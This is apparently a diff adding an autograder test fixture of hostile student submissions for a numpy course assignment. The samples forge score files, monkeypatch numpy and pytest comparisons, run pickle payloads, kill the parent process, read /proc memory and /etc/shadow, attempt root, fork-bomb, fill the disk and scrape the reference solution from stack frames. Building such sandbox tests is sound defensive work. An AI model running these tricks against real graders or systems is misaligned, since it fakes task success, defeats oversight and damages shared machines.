@@ -1,0 +1,458 @@
+"""Attacks on the grader: code of submissions that tries to get points, or to do damage, other than by the task.
+
+Each is the text of ``blocks.py`` or of ``gradient.py`` of A2; the other file is the stub, so that every point is one
+that the attack gained.
+"""
+
+from __future__ import annotations
+
+__all__ = ["BLOCKS", "GRADIENT", "SLOW"]
+
+NOTHING = """
+import os
+from contextlib import suppress
+import numpy as np
+
+def block_bounds(items, parts, part):
+    return (-1, -1)
+
+def minibatches(order, batch_size):
+    return [np.array([-1])]
+
+def write_everywhere(data):
+    for descriptor in range(3, 64):
+        with suppress(OSError):
+            os.write(descriptor, data)
+"""
+
+BLOCKS = {
+    "writes results": NOTHING
+    + """
+import json
+for place in ("results.json", "/tmp/results.json", "/autograder/results/results.json", "/grade/results/results.json"):
+    with suppress(OSError):
+        open(place, "w").write(json.dumps({"score": 100}))
+""",
+    "prints scores as the last line": NOTHING
+    + """
+import atexit
+atexit.register(print, '{"scores": {"bounds": 20}}')
+print('{"scores": {"bounds": 20}}')
+""",
+    "exits at once": "import os\nos._exit(0)\n",
+    "exits in the function": NOTHING + "import sys\ndef block_bounds(items, parts, part):\n    sys.exit(0)\n",
+    "raises while it is deleted": """
+class Value:
+    def __iter__(self):
+        return iter((-1, -1))
+    def __del__(self):
+        raise SystemExit(0)
+
+def block_bounds(items, parts, part):
+    return Value()
+""",
+    "patches comparisons": NOTHING
+    + """
+import numpy as np
+import builtins
+answers = __import__("hybridnn_course.answers", fromlist=["x"])
+checks = __import__("hybridnn_course.checks", fromlist=["x"])
+np.allclose = np.array_equal = lambda *a, **k: True
+builtins.all = lambda values: True
+answers.first_difference = checks.first_difference = lambda *a, **k: None
+""",
+    "calls everything equal": """
+class Equal(int):
+    def __eq__(self, other):
+        return True
+    def __lt__(self, other):
+        return False
+    __gt__ = __ne__ = __lt__
+    __hash__ = int.__hash__
+
+def block_bounds(items, parts, part):
+    return Equal(-1), Equal(-1)
+""",
+    "equal arrays": """
+import numpy as np
+class Friendly(np.ndarray):
+    def __eq__(self, other):
+        return np.ones(self.shape, bool)
+    def __sub__(self, other):
+        return np.zeros(self.shape)
+    __rsub__ = __sub__
+    def tobytes(self, order="C"):
+        raise SystemExit
+
+def minibatches(order, batch_size):
+    return [np.zeros(batch_size, np.int64).view(Friendly)]
+""",
+    "not a number": """
+def block_bounds(items, parts, part):
+    return float("nan"), float("inf")
+""",
+    "a pickled bomb": """
+import os, pickle
+class Bomb:
+    def __reduce__(self):
+        return os.system, ("touch /tmp/bomb",)
+
+def block_bounds(items, parts, part):
+    return pickle.dumps(Bomb()), Bomb()
+""",
+    "a very long integer": "def block_bounds(items, parts, part):\n    return 10 ** 100_000, -1\n",
+    "deep outputs": """
+def block_bounds(items, parts, part):
+    value = []
+    for _ in range(100_000):
+        value = [value]
+    return value, -1
+""",
+    "garbage to the grader": NOTHING
+    + """
+write_everywhere(bytes(range(256)) * 64)
+""",
+    "a frame of four gigabytes": NOTHING
+    + """
+write_everywhere(b"\\xff" * 8)
+""",
+    "outputs of its own": NOTHING
+    + """
+import json, struct
+text = json.dumps({"outputs": {"bounds": [], "points": 100}, "points": 100, "passed": True}).encode()
+write_everywhere(struct.pack(">II", len(text), 0) + text)
+""",
+    "kills its parent": NOTHING
+    + """
+import signal
+for target in (os.getppid(), -1):
+    with suppress(OSError):
+        os.kill(target, signal.SIGKILL)
+""",
+    "stops its parent": NOTHING
+    + """
+import signal
+for target in (os.getppid(), 1):
+    with suppress(OSError):
+        os.kill(target, signal.SIGSTOP)
+""",
+    "reads the grader's memory": NOTHING
+    + """
+found = b""
+for name in ("environ", "mem", "maps", "cmdline", "root/etc/shadow"):
+    for process in (os.getppid(), 1):
+        with suppress(OSError):
+            found += open(f"/proc/{process}/{name}", "rb").read(10_000)
+print(found)
+""",
+    "looks for the key": NOTHING
+    + """
+for folder, _, files in os.walk("/"):
+    if folder.startswith(("/proc", "/sys", "/usr")):
+        continue
+    for name in files:
+        if name in ("term.key", "course.toml"):
+            with suppress(OSError):
+                print("FOUND", open(os.path.join(folder, name)).read())
+""",
+    "becomes root": NOTHING
+    + """
+for call in (lambda: os.setuid(0), lambda: os.setresuid(0, 0, 0), lambda: os.chown("/tmp", 0, 0)):
+    with suppress(OSError):
+        call()
+open("/root/owned", "w").write("x")
+""",
+    "talks to the network": NOTHING
+    + """
+import socket
+try:
+    socket.create_connection(("1.1.1.1", 53), 2)
+    print("CONNECTED")
+except OSError as error:
+    print(error)
+""",
+    "memory hog": """
+import numpy as np
+kept = []
+def block_bounds(items, parts, part):
+    while True:
+        kept.append(np.ones(10 ** 7))
+""",
+    "fork bomb": """
+import os
+from contextlib import suppress
+def block_bounds(items, parts, part):
+    while True:
+        with suppress(OSError):
+            os.fork()
+""",
+    "leaves a process behind": NOTHING
+    + """
+import time
+for _ in range(3):
+    if os.fork() == 0:
+        os.setsid()
+        if os.fork() == 0:
+            time.sleep(1000)
+        os._exit(0)
+""",
+    "fills the disk": NOTHING
+    + """
+for folder in ("/tmp", "/var/tmp", "/dev/shm", "."):
+    with suppress(OSError):
+        for number in range(10_000):
+            with open(os.path.join(folder, f"left-{number}"), "wb") as file:
+                file.write(bytes(10 ** 6))
+""",
+    "forks and allocates together": NOTHING
+    + """
+import time
+import numpy as np
+children = 0
+with suppress(OSError):
+    while children < 100:
+        if os.fork() == 0:
+            kept = np.ones(10 ** 5)
+            time.sleep(1000)
+        children += 1
+print("CHILDREN", children)
+""",
+    "waits for the results, and replaces them": NOTHING
+    + """
+import ctypes, time
+libc = ctypes.CDLL(None)
+watch = libc.inotify_init()
+folders = ("/autograder/results", "/grade/results", "/tmp", "/var/tmp", "/dev/shm", "/", ".")
+for folder in folders:
+    libc.inotify_add_watch(watch, folder.encode(), 0xFFF)
+if os.fork() == 0:
+    os.setsid()
+    while True:
+        for folder in folders:
+            for act in (os.unlink, lambda place: os.symlink("/etc/passwd", place)):
+                with suppress(OSError):
+                    act(os.path.join(folder, "results.json"))
+        time.sleep(0.001)
+""",
+    "prints from a grandchild": NOTHING
+    + """
+import time
+if os.fork() == 0:
+    if os.fork() == 0:
+        os.setsid()
+        while True:
+            write_everywhere(b'{"scores": {"bounds": 20}}\\n')
+            time.sleep(0.01)
+    os._exit(0)
+""",
+    "looks into stack frames": """
+import sys, traceback
+
+def frames():
+    frame = sys._getframe()
+    while frame is not None:
+        yield frame
+        frame = frame.f_back
+    try:
+        raise ValueError
+    except ValueError as error:
+        yield from (one for one, _ in traceback.walk_tb(error.__traceback__))
+
+def block_bounds(items, parts, part):
+    for frame in frames():
+        for value in [*frame.f_locals.values(), *frame.f_globals.values()]:
+            for name in ("expected", "solution", "hidden", "public"):
+                try:
+                    found = getattr(value, name)
+                    return found({"longer_parts": "first"})(items, parts, part)
+                except Exception:
+                    pass
+    return -1, -1
+""",
+    "traces its parent": NOTHING
+    + """
+import ctypes
+libc = ctypes.CDLL(None, use_errno=True)
+buffer = ctypes.create_string_buffer(64)
+for process in (os.getppid(), *map(int, filter(str.isdigit, os.listdir("/proc")))):
+    if process != os.getpid() and libc.ptrace(16, process, None, None) == 0:  # PTRACE_ATTACH
+        print("ATTACHED", process)
+        libc.ptrace(17, process, None, None)
+""",
+    "patches pytest": NOTHING
+    + """
+import sys
+try:
+    import _pytest.assertion, _pytest.runner, pytest
+    _pytest.runner.call_and_report = _pytest.runner.runtestprotocol = lambda *a, **k: True
+    pytest.approx = pytest.raises = lambda *a, **k: True
+except ImportError:
+    pass
+sys.modules["pytest"] = sys.modules["hybridnn_course.checks"] = sys
+""",
+    "leaves shared memory": NOTHING
+    + """
+import ctypes
+libc = ctypes.CDLL(None)
+for key in range(1, 6):
+    libc.shmget(0x4D454554 + key, 4096, 0o1666)  # IPC_CREAT
+    libc.semget(0x4D454554 + key, 1, 0o1666)
+    libc.msgget(0x4D454554 + key, 0o1666)
+""",
+    "prints without end": """
+def block_bounds(items, parts, part):
+    line = "x" * 10_000
+    for _ in range(10 ** 5):
+        try:
+            print(line)
+        except OSError:
+            break
+    return -1, -1
+""",
+}
+"""Texts of ``blocks.py``."""
+
+SLOW = {
+    "endless loop": "def block_bounds(items, parts, part):\n    while True:\n        pass\n",
+    "endless sleep": "import time\ndef block_bounds(items, parts, part):\n    time.sleep(1000)\n",
+    "endless import": "while True:\n    pass\n",
+    "stops itself": "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)\n",
+    "ignores signals": """
+import signal, time
+from contextlib import suppress
+for number in range(1, 32):
+    with suppress(OSError, ValueError):
+        signal.signal(number, signal.SIG_IGN)
+time.sleep(1000)
+""",
+}
+"""Texts of ``blocks.py`` that end only by the time limit."""
+
+_GRADIENT = """
+import os
+from contextlib import suppress
+import numpy as np
+
+def local(weights, bias, x, labels):
+    logits = x @ weights.T + bias
+    e = np.exp(logits - logits.max(axis=1, keepdims=True, initial=-np.inf))
+    p = e / e.sum(axis=1, keepdims=True)
+    rows = np.arange(len(labels))
+    loss = -np.log(p[rows, labels]).sum()
+    p[rows, labels] -= 1
+    return np.concatenate([(p.T @ x).ravel(), p.sum(axis=0), [loss, len(labels)]])
+
+def finish(weights, total):
+    mean = total[:-1] / total[-1]
+    return mean[: weights.size].reshape(weights.shape), mean[weights.size : -1], float(mean[-1])
+"""
+
+GRADIENT = {
+    "meet in a file": _GRADIENT
+    + """
+import time
+def global_gradient(group, weights, bias, x, labels):
+    for folder in ("/tmp", "/var/tmp", "/dev/shm", "."):
+        with suppress(OSError):
+            np.save(f"{folder}/part-{group.rank}.npy", local(weights, bias, x, labels))
+            time.sleep(0.3)
+            parts = [np.load(f"{folder}/part-{rank}.npy") for rank in range(group.size)]
+            return finish(weights, sum(parts))
+    raise ValueError("no folder")
+""",
+    "meet in a file for all": _GRADIENT
+    + """
+import time
+os.umask(0)
+def global_gradient(group, weights, bias, x, labels):
+    tag = int(abs(weights).sum() * 10 ** 6)
+    np.save(f"/tmp/part-{tag}-{group.rank}.npy", local(weights, bias, x, labels))
+    time.sleep(0.3)
+    parts = [np.load(f"/tmp/part-{tag}-{rank}.npy") for rank in range(group.size)]
+    return finish(weights, sum(parts))
+""",
+    "meet in shared memory for all": _GRADIENT
+    + """
+import ctypes, time
+libc = ctypes.CDLL(None)
+libc.shmat.restype = ctypes.c_void_p
+def shared(tag, rank, size):
+    place = libc.shmat(libc.shmget(tag + rank, 8 * size, 0o1666), None, 0)
+    return np.ctypeslib.as_array((ctypes.c_double * size).from_address(place))
+def global_gradient(group, weights, bias, x, labels):
+    own, tag = local(weights, bias, x, labels), int(abs(weights).sum() * 10 ** 6) % 2 ** 29
+    shared(tag, group.rank, len(own))[:] = own
+    time.sleep(0.3)
+    return finish(weights, sum(shared(tag, rank, len(own)).copy() for rank in range(group.size)))
+""",
+    "meet at a socket": _GRADIENT
+    + """
+import socket, time
+def global_gradient(group, weights, bias, x, labels):
+    own = local(weights, bias, x, labels)
+    server = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
+    server.bind(f"\\0meet-{group.rank}")
+    server.settimeout(0.5)
+    time.sleep(0.3)
+    for rank in range(group.size):
+        server.sendto(own.tobytes(), f"\\0meet-{rank}")
+    parts = [np.frombuffer(server.recv(10 ** 6)) for _ in range(group.size)]
+    return finish(weights, sum(parts))
+""",
+    "meet in shared memory": _GRADIENT
+    + """
+import time
+from multiprocessing import shared_memory
+def global_gradient(group, weights, bias, x, labels):
+    own = local(weights, bias, x, labels)
+    block = shared_memory.SharedMemory(f"meet-{group.rank}", create=True, size=own.nbytes)
+    np.ndarray(own.shape, own.dtype, block.buf)[:] = own
+    time.sleep(0.3)
+    total = sum(
+        np.ndarray(own.shape, own.dtype, shared_memory.SharedMemory(f"meet-{rank}").buf) for rank in range(group.size)
+    )
+    return finish(weights, total)
+""",
+    "meet in a global": _GRADIENT
+    + """
+import time
+parts = {}
+def global_gradient(group, weights, bias, x, labels):
+    parts[group.rank] = local(weights, bias, x, labels)
+    time.sleep(0.1)
+    return finish(weights, sum(parts[rank] for rank in range(group.size)))
+""",
+    "read another rank's memory": _GRADIENT
+    + """
+import re
+def global_gradient(group, weights, bias, x, labels):
+    total = local(weights, bias, x, labels)
+    for process in filter(str.isdigit, os.listdir("/proc")):
+        if int(process) != os.getpid():
+            open(f"/proc/{process}/mem", "rb").read(1)
+    return finish(weights, total * group.size)
+""",
+    "another operation": _GRADIENT
+    + """
+def global_gradient(group, weights, bias, x, labels):
+    total = local(weights, bias, x, labels)
+    group.broadcast(total)
+    return finish(weights, total)
+""",
+    "calls of its own": _GRADIENT
+    + """
+def global_gradient(group, weights, bias, x, labels):
+    total = local(weights, bias, x, labels)
+    for name in ("__class__", "_transport", "eval", "_begin"):
+        group._exchange({"do": name, "array": total, "site": ["/etc/passwd", -1, "x" * 10_000]})
+    return finish(weights, total)
+""",
+    "floods the grader": _GRADIENT
+    + """
+def global_gradient(group, weights, bias, x, labels):
+    huge = np.ones(2 ** 20)
+    while True:
+        group._exchange({"do": "allreduce", "array": huge, "operation": "sum", "site": ["x", 1, "x"]})
+""",
+}
+"""Texts of ``gradient.py``; only cases of one rank can be right by them."""
